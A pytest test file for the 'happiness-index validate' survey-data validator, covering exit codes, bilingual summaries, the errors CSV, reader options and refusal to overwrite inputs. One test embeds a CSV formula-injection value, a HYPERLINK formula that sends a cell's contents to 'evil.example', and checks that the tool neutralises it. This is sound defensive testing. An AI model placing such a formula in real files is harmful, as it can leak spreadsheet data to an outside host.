"""Tests of `happiness-index validate`: exit codes, printed summary, errors file, no tracebacks."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from happiness_index.report.cli import main

ROOT = Path(__file__).resolve().parents[1]
BAD = ROOT / "tests" / "data" / "bad"
SPEC = str(BAD / "spec.toml")
FRAME = str(BAD / "frame.csv")


def run(capsys, *argv, lang="en"):
    """main(argv) in process; validate's summary in English unless ``--lang`` is given (or lang=None)."""
    argv = list(argv)
    if lang and argv[:1] == ["validate"] and "--lang" not in argv and "--help" not in argv:
        argv += ["--lang", lang]
    code = main(argv)
    out, err = capsys.readouterr()
    assert "Traceback" not in out + err
    return code, out, err


def test_clean_file_exits_0(capsys, tmp_path):
    out_csv = tmp_path / "errors.csv"
    code, out, err = run(
        capsys, "validate", str(BAD / "good.csv"), "--spec", SPEC, "--frame", FRAME, "--out", str(out_csv)
    )
    assert code == 0 and "no problems" in out and err == ""
    assert pd.read_csv(out_csv, encoding="utf-8-sig").empty


def test_bad_file_exits_1_and_writes_every_problem(capsys, tmp_path):
    out_csv = tmp_path / "errors.csv"
    code, out, _ = run(
        capsys, "validate", str(BAD / "out_of_range_code.csv"), "--spec", SPEC, "--frame", FRAME, "--out", str(out_csv)
    )
    assert code == 1
    assert "2 problems in 2 of 8 rows" in out and "in range 1..5" in out and "in range 0..10" in out
    raw = out_csv.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel shows Vietnamese correctly
    e = pd.read_csv(out_csv, encoding="utf-8-sig")
    assert list(e.columns) == ["row", "row_number", "column", "value", "check", "kind", "message_en", "message_vi"]
    assert e["row"].tolist() == [2, 7] and e["column"].tolist() == ["q1", "q3"]
    assert e["message_vi"][0].startswith("giá trị 6 ở cột 'q1'")


def test_vietnamese_summary(capsys):
    code, out, _ = run(capsys, "validate", str(BAD / "skip_rule.csv"), "--spec", SPEC, "--lang", "vi")
    assert code == 1 and "2 lỗi ở 2 trong 8 dòng" in out
    assert "loại lỗi" in out and "quy tắc bỏ qua" in out and "kind" not in out


def test_coercions_counted_and_written_to_out(capsys, tmp_path, monkeypatch):
    # read_survey already converts text numbers; feed the validator the raw text cells
    from happiness_index.report import cli

    text = pd.read_csv(BAD / "coerced_text_numbers.csv", dtype=str, keep_default_na=False)
    real = cli.read_input
    monkeypatch.setattr(
        cli, "read_input", lambda arg, what, options=None: text if what == "survey" else real(arg, what, options)
    )
    out_csv = tmp_path / "errors.csv"
    code, out, _ = run(
        capsys,
        "validate",
        str(BAD / "coerced_text_numbers.csv"),
        "--spec",
        SPEC,
        "--frame",
        FRAME,
        "--out",
        str(out_csv),
    )
    e = pd.read_csv(out_csv, encoding="utf-8-sig")
    notes = e[e["kind"] == "coercion (note)"]
    assert "report.coercions" not in out
    assert f"{len(notes)} cells were read by coercion" in out and len(notes) > 0
    assert f"wrote 0 problems and {len(notes)} coercion notes" in out
    assert code == 0 and len(e) == len(notes)


def test_duplicate_ids_show_row_numbers_on_the_cli(capsys):
    code, out, _ = run(capsys, "validate", str(BAD / "duplicate_id.csv"), "--spec", SPEC, "--frame", FRAME)
    assert code == 1 and "(row 4)" in out and "(row 5)" in out and "2 problems in 2 of 8 rows" in out


def test_bundled_spec_name(capsys, tmp_path):
    p = tmp_path / "s.csv"
    p.write_text(
        "respondent_id,commune,village,weight,ls_income,ls_health,ls_family,ls_social,"
        "le_rating,env_nature,env_security,env_services\n"
        "1,1,11,10.0,4,5,3,8,4,4,2,5\n2,1,12,12.5,6,5,3,4,4,4,2,5\n",
        encoding="utf-8",
    )
    code, out, _ = run(capsys, "validate", str(p), "--spec", "yen_bai_nef")
    assert code == 1 and "ls_income" in out and "in range 1..5" in out


@pytest.mark.parametrize(
    "argv,needle",
    [
        ([], "choose a command"),
        (["validate", "x.csv"], "--spec"),
        (["frobnicate"], "invalid choice"),
        (["validate", "missing.csv", "--spec", SPEC], "survey file not found: missing.csv"),
        (["validate", str(BAD / "good.csv"), "--spec", "nope.toml"], "spec file not found: nope.toml"),
        (["validate", str(BAD / "good.csv"), "--spec", SPEC, "--frame", "nof.csv"], "frame file not found"),
    ],
)
def test_usage_errors_exit_2(capsys, argv, needle):
    code, out, err = run(capsys, *argv)
    assert code == 2 and needle in err


def test_invalid_spec_exits_2(capsys, tmp_path):
    bad = tmp_path / "bad.toml"
    bad.write_text(
        (BAD / "spec.toml").read_text("utf-8").replace('preset = "nef_ratio"', 'preset = "nef_ratio"\nfoo = 1'),
        encoding="utf-8",
    )
    code, _, err = run(capsys, "validate", str(BAD / "good.csv"), "--spec", str(bad))
    assert code == 2 and "invalid spec" in err and "unknown key 'foo'" in err and "line 5" in err


def test_unreadable_data_exits_1(capsys, tmp_path):
    p = tmp_path / "latin.csv"
    p.write_bytes(b"id,q1\n" + "1,Đông\n".encode("cp1258"))
    code, _, err = run(capsys, "validate", str(p), "--spec", SPEC)
    assert code == 1 and "cannot read data" in err and "line 2" in err and "--encoding cp1258" in err
    code, _, err = run(capsys, "validate", str(p), "--spec", SPEC, lang="vi")  # the office's language
    assert code == 1 and "không đọc được dữ liệu" in err and "dòng 2" in err and "--encoding cp1258" in err
    p = tmp_path / "x.xlsx"
    p.write_bytes(b"garbage")
    code, _, err = run(capsys, "validate", str(p), "--spec", SPEC)
    assert code == 1 and "cannot read x.xlsx" in err


def test_frame_without_commune_column_exits_1(capsys, tmp_path):
    fr = tmp_path / "frame.csv"
    fr.write_text("ma_xa,village\n1,101\n", encoding="utf-8")
    code, _, err = run(capsys, "validate", str(BAD / "good.csv"), "--spec", SPEC, "--frame", str(fr))
    assert code == 1 and "no column 'commune'" in err


def test_unwritable_out_exits_2(capsys, tmp_path):
    code, _, err = run(
        capsys, "validate", str(BAD / "good.csv"), "--spec", SPEC, "--out", str(tmp_path / "no" / "dir" / "e.csv")
    )
    assert code == 2 and "error" in err


def test_help_exits_0(capsys):
    assert main(["--help"]) == 0
    assert "validate" in capsys.readouterr().out


def test_console_entry_point_subprocess():
    r = subprocess.run(
        [
            sys.executable,
            "-c",
            "import sys; from happiness_index.report.cli import main; sys.exit(main())",
            "validate",
            str(BAD / "missing_column.csv"),
            "--spec",
            SPEC,
        ],
        capture_output=True,
        text=True,
        cwd=ROOT,
    )
    # the default language of validate is the one of run: Vietnamese
    assert r.returncode == 1 and "thiếu cột" in r.stdout and "Traceback" not in r.stderr


def test_help_starts_without_heavy_imports():
    """`happiness-index --help` imports neither pandas, numpy, matplotlib nor pandera (start-up < 0.7 s)."""
    code = (
        "import sys; from happiness_index.report.cli import main\n"
        "try:\n    main(['run', '--help'])\nexcept SystemExit:\n    pass\n"
        "main(['--help']); main(['validate', '--help'])\n"
        "print(sorted(m for m in ('pandas', 'numpy', 'matplotlib', 'pandera', 'scipy') if m in sys.modules))"
    )
    r = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT)
    assert r.returncode == 0, r.stderr
    assert r.stdout.strip().splitlines()[-1] == "[]"


def test_out_equal_to_an_input_is_refused(capsys, tmp_path):
    # breakit #3: --out naming the survey (directly, via '..' or a symlink) or the frame
    survey = tmp_path / "S.csv"
    survey.write_bytes((BAD / "good.csv").read_bytes())
    frame = tmp_path / "F.csv"
    frame.write_bytes(Path(FRAME).read_bytes())
    link = tmp_path / "link.csv"
    link.symlink_to(survey)
    (tmp_path / "sub").mkdir()
    before = survey.read_bytes(), frame.read_bytes()
    for out, role in [
        (survey, "survey"),
        (tmp_path / "sub" / ".." / "S.csv", "survey"),
        (link, "survey"),
        (frame, "frame"),
    ]:
        code, out_text, err = run(
            capsys, "validate", str(survey), "--spec", SPEC, "--frame", str(frame), "--out", str(out)
        )
        assert code == 2, (out, err)
        assert f"is the {role} file" in err and "never overwritten" in err
        assert (survey.read_bytes(), frame.read_bytes()) == before


# ------------------------------------------------------------------ messages (breakit #28)
def test_directory_is_not_called_a_missing_file(capsys, tmp_path):
    code, _, err = run(capsys, "validate", str(tmp_path), "--spec", SPEC)
    assert code == 2 and f"survey {tmp_path} is a directory, not a file" in err and "not found" not in err
    code, _, err = run(capsys, "validate", str(BAD / "good.csv"), "--spec", str(tmp_path))
    assert code == 2 and f"spec {tmp_path} is a directory, not a file" in err and "not found" not in err
    code, _, err = run(capsys, "validate", str(BAD / "good.csv"), "--spec", SPEC, "--frame", str(tmp_path))
    assert code == 2 and "frame" in err and "is a directory" in err


def test_every_bundled_spec_is_listed_in_errors_and_help(capsys):
    from happiness_index.report.cli import bundled_spec_names

    names = bundled_spec_names()
    assert {"yen_bai_nef", "gnh_alkire_foster", "gss_happiness"} <= set(names)
    listing = ", ".join(names)
    code, _, err = run(capsys, "validate", str(BAD / "good.csv"), "--spec", "nope.toml")
    assert code == 2 and f"bundled spec name: {listing}" in err
    for cmd in ("validate", "run"):
        assert main([cmd, "--help"]) == 0
        out = " ".join(capsys.readouterr().out.split())
        assert f"a bundled name ({listing})" in out, cmd


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full")
def test_write_failure_names_the_output_file(capsys):
    code, _, err = run(capsys, "validate", str(BAD / "good.csv"), "--spec", SPEC, "--out", "/dev/full")
    assert code == 2 and "cannot write the list of problems to /dev/full" in err
    assert "[Errno" not in err


def test_out_directory_is_refused(capsys, tmp_path):
    code, _, err = run(capsys, "validate", str(BAD / "good.csv"), "--spec", SPEC, "--out", str(tmp_path))
    assert code == 2 and "is a directory; give the name of a CSV file" in err


# ------------------------------------------------------------------ issue 9: the errors file and reader options
def test_errors_csv_cannot_attack_its_reader(capsys, tmp_path):
    """A commune name that is a spreadsheet formula is written as text (OWASP), numbers unchanged."""
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    text = (BAD / "good.csv").read_text(encoding="utf-8").replace("Phường Minh Tân", evil.replace('"', '""'))
    text = text.replace(evil.replace('"', '""'), '"' + evil.replace('"', '""') + '"')  # a quoted CSV field
    survey = tmp_path / "evil.csv"
    survey.write_text(text, encoding="utf-8")
    out_csv = tmp_path / "errors.csv"
    code, _, _ = run(capsys, "validate", str(survey), "--spec", SPEC, "--frame", FRAME, "--out", str(out_csv))
    assert code == 1
    e = pd.read_csv(out_csv, encoding="utf-8-sig", dtype=str, keep_default_na=False)
    cells = [c for col in e.columns for c in e[col]]
    assert any(evil in c for c in cells)  # the name is reported ...
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]  # ... but never live
    assert "'" + evil in cells


def test_out_never_overwrites_a_file_it_did_not_write(capsys, tmp_path):
    thesis = tmp_path / "thesis.csv"
    thesis.write_text("my,own\n1,2\n", encoding="utf-8")
    code, _, err = run(capsys, "validate", str(BAD / "good.csv"), "--spec", SPEC, "--out", str(thesis))
    assert code == 2 and "is not a list of problems written by happiness-index" in err
    assert thesis.read_text(encoding="utf-8") == "my,own\n1,2\n"
    # an earlier list of problems (or an empty file) is replaced, atomically (no temporary file left)
    out_csv = tmp_path / "errors.csv"
    out_csv.write_bytes(b"")
    for survey in ("out_of_range_code.csv", "good.csv"):
        code, _, _ = run(capsys, "validate", str(BAD / survey), "--spec", SPEC, "--out", str(out_csv))
        assert code in (0, 1)
    assert pd.read_csv(out_csv, encoding="utf-8-sig").empty
    assert sorted(p.name for p in tmp_path.iterdir()) == ["errors.csv", "thesis.csv"]


def _excel_locale_copy(tmp_path) -> Path:
    """good.csv as saved by Excel in the Vietnamese locale: ';' fields, ',' decimals, '.' thousands."""
    d = pd.read_csv(BAD / "good.csv").convert_dtypes()  # whole numbers stay whole (7, not 7.0), as Excel writes them
    d["w"] = [f"{10 * w:,.1f}".replace(",", " ").replace(".", ",").replace(" ", ".") for w in d["w"]]
    p = tmp_path / "vi.csv"
    d.to_csv(p, sep=";", index=False)
    return p


def test_reader_options_read_the_office_export(capsys, tmp_path, monkeypatch):
    p = _excel_locale_copy(tmp_path)
    assert "1.205,0" in p.read_text(encoding="utf-8")
    seen = {}
    from happiness_index.reading import schema

    orig = schema.validate_survey

    def spy(data, *a, **k):
        seen["w"] = data["w"].tolist()
        return orig(data, *a, **k)

    monkeypatch.setattr(schema, "validate_survey", spy)
    code, out, err = run(
        capsys,
        "validate",
        str(p),
        "--spec",
        SPEC,
        "--frame",
        FRAME,
        "--sep",
        ";",
        "--decimal",
        ",",
        "--thousands",
        ".",
        "--frame-sep",
        ",",
    )
    assert code == 0, out + err
    assert seen["w"] == [1205.0, 980.0, 1100.0, 875.0, 1010.0, 950.0, 900.0, 1300.0]


def test_header_row_option(capsys, tmp_path):
    """--header-row: a table under title rows (read_survey's header_row, when this version has it)."""
    import inspect

    from happiness_index.reading.files import read_survey

    p = tmp_path / "titled.csv"
    p.write_text("BÁO CÁO KHẢO SÁT\n\n" + (BAD / "good.csv").read_text(encoding="utf-8"), encoding="utf-8")
    code, out, err = run(capsys, "validate", str(p), "--spec", SPEC, "--header-row", "3")
    if "header_row" in inspect.signature(read_survey).parameters:
        assert code == 0, out + err
    else:
        assert code == 2 and "--header-row (reading the survey) is not supported by this version's reader" in err


def test_validate_reads_the_run_file(capsys, tmp_path):
    """`validate --config run.toml`: survey, spec, frame, language and reader options from the run file."""
    _excel_locale_copy(tmp_path)  # vi.csv
    (tmp_path / "spec.toml").write_bytes(Path(SPEC).read_bytes())
    (tmp_path / "run.toml").write_text(
        'survey = "vi.csv"\nspec = "spec.toml"\nframe = "%s"\nlanguage = "en"\n'
        '[read]\nsep = ";"\ndecimal = ","\nthousands = "."\n' % FRAME.replace("\\", "/"),
        encoding="utf-8",
    )
    code, out, err = run(capsys, "validate", "--config", str(tmp_path / "run.toml"), lang=None)
    assert code == 0 and "no problems" in out, out + err
    code, out, _ = run(capsys, "validate", "--config", str(tmp_path / "run.toml"), "--lang", "vi")
    assert code == 0 and "không có lỗi" in out  # the command line over the run file
    code, _, err = run(capsys, "validate", "--config", str(tmp_path / "run.toml"), "--out", str(tmp_path / "run.toml"))
    assert code == 2 and "is the run file" in err


def test_out_with_another_extension_is_refused_not_csv_in_disguise(capsys, tmp_path):
    # hostile-input finding: errors.xlsx used to receive CSV text
    out_x = tmp_path / "errors.xlsx"
    code, out, err = run(
        capsys, "validate", str(BAD / "good.csv"), "--spec", SPEC, "--frame", FRAME, "--out", str(out_x)
    )
    assert code == 2 and ".csv" in err and not out_x.exists()
